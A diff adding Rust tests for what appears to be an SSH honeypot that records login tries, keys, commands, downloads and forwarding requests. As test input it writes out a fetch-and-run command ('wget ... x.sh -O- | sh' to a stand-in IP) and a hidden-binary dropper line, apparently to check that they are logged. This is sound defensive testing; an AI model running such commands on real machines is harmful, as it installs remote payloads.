@@ -1,0 +1,244 @@
+//! Tries to log in, and what is asked for behind them.
+
+use super::{
+    client::{channel_request, data, let_in, open_session, password, request},
+    *,
+};
+
+fn begun(session: SshSession) -> Client {
+    let mut client = Client::of(session, LISTS, "none");
+    client.begin_login();
+    client
+}
+
+/// A client that was let in as `root` and has a channel.
+fn inside() -> Client {
+    let mut client = begun(let_in());
+    let answers = client.ask(&password("root", "toor"));
+    assert_eq!((answers[0].as_slice(), answers[1][0]), (&[MSG_USERAUTH_SUCCESS][..], MSG_GLOBAL_REQUEST));
+    assert_eq!(client.ask(&open_session())[0][..9], [91, 0, 0, 0, 5, 0, 0, 0, 0]);
+    client
+}
+
+/// Everything printed in the channel, complaints too; and the status, if it has ended.
+fn printed(answers: &[Vec<u8>]) -> (String, Option<u8>) {
+    let (mut text, mut status) = (Vec::new(), None);
+    for payload in answers {
+        match payload[0] {
+            MSG_CHANNEL_DATA => text.extend_from_slice(&payload[9..]),
+            MSG_CHANNEL_EXTENDED_DATA => text.extend_from_slice(&payload[13..]),
+            MSG_CHANNEL_REQUEST => status = payload.last().copied(),
+            _ => {}
+        }
+    }
+    (said(&text), status)
+}
+
+fn exec(command: &str) -> (Client, String, Option<u8>) {
+    let mut client = inside();
+    let answers = client.ask(&channel_request("exec", |out| put_string(out, command.as_bytes())));
+    let (text, status) = printed(&answers);
+    (client, text, status)
+}
+
+#[test]
+fn every_try_is_told_with_the_client_before_it_is_answered_and_the_sixth_is_the_last() {
+    let mut client = begun(session());
+    let none = client.ask(&request("root", "none", |_| {}));
+    let failure = message(MSG_USERAUTH_FAILURE, |out| {
+        put_string(out, b"publickey,password,keyboard-interactive");
+        out.push(0);
+    });
+    assert_eq!((none, client.heard.reports.len()), (vec![failure.clone()], 0), "asking for the methods is free");
+    for try_ in 1..6 {
+        assert_eq!(client.ask(&password("root", &format!("pw{try_}"))), vec![failure.clone()]);
+        let (found, _) = client.heard.reports.last().unwrap();
+        let fields = ["username", "password", "method", "client"].map(|name| found.fields[name].as_str());
+        assert_eq!(fields, ["root", &format!("pw{try_}"), "password", "SSH-2.0-test"]);
+        assert_eq!((found.signs, found.fields["hassh"].len()), (Signs::CREDENTIALS, 32));
+    }
+    let last = client.ask(&password("root", "pw6"));
+    assert_eq!((last_words(&last[0]).as_str(), client.heard.flow), ("Too many authentication failures", Flow::Close));
+    assert_eq!(client.heard.reports.last().unwrap().0.fields["password"], "pw6");
+}
+
+#[test]
+fn keys_are_told_as_ssh_prints_them() {
+    let mut client = begun(session());
+    // An ed25519 key of which `ssh-keygen -lf` prints this fingerprint.
+    let blob = crate::text::unbase64(b"AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f").unwrap();
+    let query = |signed: u8, method: &str| {
+        request("git", method, |out| {
+            out.push(signed);
+            put_string(out, b"ssh-ed25519");
+            put_string(out, &blob);
+            if signed == 1 {
+                put_string(out, &[1; 83]);
+            }
+        })
+    };
+    assert_eq!(client.ask(&query(0, "publickey"))[0][0], MSG_USERAUTH_FAILURE);
+    let fields = client.heard.reports.last().unwrap().0.fields.clone();
+    assert_eq!((fields["key_algorithm"].as_str(), fields.get("key_signed")), ("ssh-ed25519", None));
+    assert_eq!(fields["key_fingerprint"], FINGERPRINT);
+    client.ask(&query(1, "publickey-hostbound-v00@openssh.com"));
+    assert_eq!(client.heard.reports.last().unwrap().0.fields["key_signed"], "true");
+}
+
+const FINGERPRINT: &str = "SHA256:ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA";
+
+#[test]
+fn a_question_is_asked_and_its_answer_told() {
+    let mut client = begun(session());
+    let ask = request("admin", "keyboard-interactive", |out| out.extend_from_slice(&[0; 8]));
+    let question = client.ask(&ask).remove(0);
+    assert!(question[0] == MSG_USERAUTH_INFO_REQUEST && said(&question).contains("Password: "));
+    let answer = message(MSG_USERAUTH_INFO_RESPONSE, |out| {
+        out.extend_from_slice(&[0, 0, 0, 1]);
+        put_string(out, b"s3cret");
+    });
+    assert_eq!(client.ask(&answer)[0][0], MSG_USERAUTH_FAILURE);
+    let (found, _) = client.heard.reports.last().unwrap();
+    assert_eq!((found.fields["username"].as_str(), found.fields["password"].as_str()), ("admin", "s3cret"));
+    assert_eq!(client.ask(&answer)[0][0], MSG_UNIMPLEMENTED, "nothing was asked");
+}
+
+#[test]
+fn a_client_stays_who_it_is() {
+    let mut client = begun(session());
+    client.ask(&password("root", "a"));
+    let last = client.ask(&password("admin", "b"));
+    let words = "Change of username or service not allowed: (root,ssh-connection) -> (admin,ssh-connection)";
+    assert_eq!((last_words(&last[0]).as_str(), client.heard.flow), (words, Flow::Close));
+    let mut other = Client::of(session(), LISTS, "none");
+    let last = other.ask(&message(MSG_SERVICE_REQUEST, |out| put_string(out, b"ssh-connection")));
+    assert_eq!(last_words(&last[0]), "bad service request ssh-connection");
+}
+
+#[test]
+fn extensions_are_told_to_those_who_can_hear_them() {
+    let client = Client::marked(session(), LISTS, ",ext-info-c", "none");
+    let told = said(&client.unasked[0]);
+    assert!(
+        client.unasked[0][0] == MSG_EXT_INFO && told.contains("server-sig-algs") && told.contains("ping@openssh.com"),
+        "{told}"
+    );
+    let mut client = Client::marked(session(), LISTS, ",ext-info-c", "none");
+    let wish = message(MSG_EXT_INFO, |out| {
+        out.extend_from_slice(&[0, 0, 0, 1]);
+        put_string(out, b"ext-info-in-auth@openssh.com");
+        put_string(out, b"0");
+    });
+    client.ask(&wish);
+    client.begin_login();
+    let kinds: Vec<u8> = client.ask(&request("root", "none", |_| {})).iter().map(|payload| payload[0]).collect();
+    assert_eq!(kinds, [MSG_EXT_INFO, MSG_USERAUTH_FAILURE]);
+}
+
+#[test]
+fn nobody_is_let_in_unless_the_operator_wants_it() {
+    let let_in_at = |try_: u8| {
+        let mut client = begun(Ssh::of(&persona()).letting_in(try_).session(7));
+        (1..=3).map(|_| client.ask(&password("root", "a"))[0][0]).position(|kind| kind == MSG_USERAUTH_SUCCESS)
+    };
+    assert_eq!((let_in_at(0), let_in_at(1), let_in_at(3)), (None, Some(0), Some(2)));
+}
+
+#[test]
+fn a_command_is_told_and_answered_without_a_shell() {
+    let (client, text, status) = exec("uname -s; nosuch; wget http://198.51.100.9/x.sh -O- | sh");
+    assert!(text.starts_with("Linux\nbash: line 1: nosuch: command not found\n"), "{text}");
+    assert_eq!((status, client.heard.flow), (Some(0), Flow::Telling));
+    let (found, _) = client.heard.reports.last().unwrap();
+    assert_eq!(found.fields["command"], "uname -s; nosuch; wget http://198.51.100.9/x.sh -O- | sh");
+    assert_eq!((found.fields["download"].as_str(), found.fields["username"].as_str()), ("http://198.51.100.9/x.sh", "root"));
+    assert_eq!((found.signs, exec("false").2, exec("nosuch").2), (Signs::RULE, Some(1), Some(127)));
+}
+
+#[test]
+fn a_terminal_prompts_and_each_line_is_told() {
+    let mut client = inside();
+    client.ask(&channel_request("pty-req", |out| put_string(out, b"xterm")));
+    let (greeting, _) = printed(&client.ask(&channel_request("shell", |_| {})));
+    let host = persona();
+    assert!(greeting.starts_with(&format!("Linux {}", host.host())) && greeting.ends_with(&format!("root@{}:~# ", host.host())));
+    let (text, _) = printed(&client.ask(&data(b"whoami\r")));
+    assert_eq!(text, format!("whoami\r\nroot\r\nroot@{}:~# ", host.host()));
+    assert_eq!(client.heard.reports.last().unwrap().0.fields["command"], "whoami");
+    client.ask(&data(b"id\rw\r"));
+    assert_eq!(client.heard.reports.last().unwrap().0.fields["command"], "id; w");
+    let (text, status) = printed(&client.ask(&data(b"exit\r")));
+    assert_eq!((text.as_str(), status), ("exit\r\nlogout\r\n", Some(0)));
+}
+
+#[test]
+fn what_is_written_to_a_file_is_told() {
+    let (mut client, _, status) = exec("cat > /tmp/.x; chmod +x /tmp/.x");
+    assert_eq!(status, None, "it waits for input");
+    client.ask(&data(b"\x7fELF..."));
+    assert_eq!(client.heard.reports.last().unwrap().0.fields["input"], "\\u{7f}ELF...");
+    let end = message(MSG_CHANNEL_EOF, |out| out.extend_from_slice(&[0; 4]));
+    assert_eq!(printed(&client.ask(&end)).1, Some(0));
+}
+
+#[test]
+fn forwarding_and_subsystems_are_told_and_refused() {
+    let mut client = inside();
+    let forward = message(MSG_CHANNEL_OPEN, |out| {
+        put_string(out, b"direct-tcpip");
+        [9_u32, 1_000, 1_000].iter().for_each(|number| out.extend_from_slice(&number.to_be_bytes()));
+        put_string(out, b"mail.example");
+        out.extend_from_slice(&25_u32.to_be_bytes());
+    });
+    let refused = client.ask(&forward).remove(0);
+    assert_eq!(refused[..9], [MSG_CHANNEL_OPEN_FAILURE, 0, 0, 0, 9, 0, 0, 0, 1]);
+    assert!(said(&refused).contains("open failed"));
+    assert_eq!(client.heard.reports.last().unwrap().0.fields["forward"], "mail.example:25");
+    let sftp = client.ask(&channel_request("subsystem", |out| put_string(out, b"sftp")));
+    assert_eq!((sftp[0][0], client.heard.reports.last().unwrap().0.fields["subsystem"].as_str()), (MSG_CHANNEL_FAILURE, "sftp"));
+    let listen = message(MSG_GLOBAL_REQUEST, |out| {
+        put_string(out, b"tcpip-forward");
+        out.push(1);
+        put_string(out, b"0.0.0.0");
+        out.extend_from_slice(&8_080_u32.to_be_bytes());
+    });
+    assert_eq!(client.ask(&listen), [vec![MSG_REQUEST_FAILURE]]);
+    assert_eq!(client.heard.reports.last().unwrap().0.fields["listen"], "0.0.0.0:8080");
+}
+
+#[test]
+fn channels_are_bounded_and_a_closed_one_makes_room() {
+    let mut client = inside();
+    let opened = (0..20).filter(|_| client.ask(&open_session())[0][0] == MSG_CHANNEL_OPEN_CONFIRMATION).count();
+    assert_eq!(opened, 9, "and the first");
+    let closed = client.ask(&message(MSG_CHANNEL_CLOSE, |out| out.extend_from_slice(&[0, 0, 0, 3])));
+    assert_eq!(closed[0][0], MSG_CHANNEL_CLOSE);
+    assert_eq!(client.ask(&open_session())[0][..9], [91, 0, 0, 0, 5, 0, 0, 0, 3]);
+    client.ask(&message(MSG_CHANNEL_DATA, |out| out.extend_from_slice(&[0, 0, 0, 99, 0, 0, 0, 0])));
+    assert_eq!((client.heard.flow, client.heard.findings.signs.contains(Signs::MALFORMED)), (Flow::Close, true));
+}
+
+#[test]
+fn host_keys_are_proven_to_whoever_does_not_know_them() {
+    let mut client = inside();
+    let key = HostKeys::of(&persona().key("ssh host keys")).public(hostkey::HostKeyKind::Ecdsa);
+    let prove = |key: &[u8]| {
+        message(MSG_GLOBAL_REQUEST, |out| {
+            put_string(out, b"hostkeys-prove-00@openssh.com");
+            out.push(1);
+            put_string(out, key);
+        })
+    };
+    assert_eq!(client.ask(&prove(&key))[0][0], MSG_REQUEST_SUCCESS);
+    assert_eq!(client.ask(&prove(b"another's")), [vec![MSG_REQUEST_FAILURE]]);
+}
+
+#[test]
+fn packed_payloads_are_understood_from_the_login_on() {
+    let mut client = Client::of(let_in(), LISTS, "zlib@openssh.com");
+    client.begin_login();
+    client.ask(&password("root", "a"));
+    client.ask(&open_session());
+    let answers = client.ask(&channel_request("exec", |out| put_string(out, b"whoami")));
+    assert_eq!(printed(&answers), ("root\n".into(), Some(0)));
+}
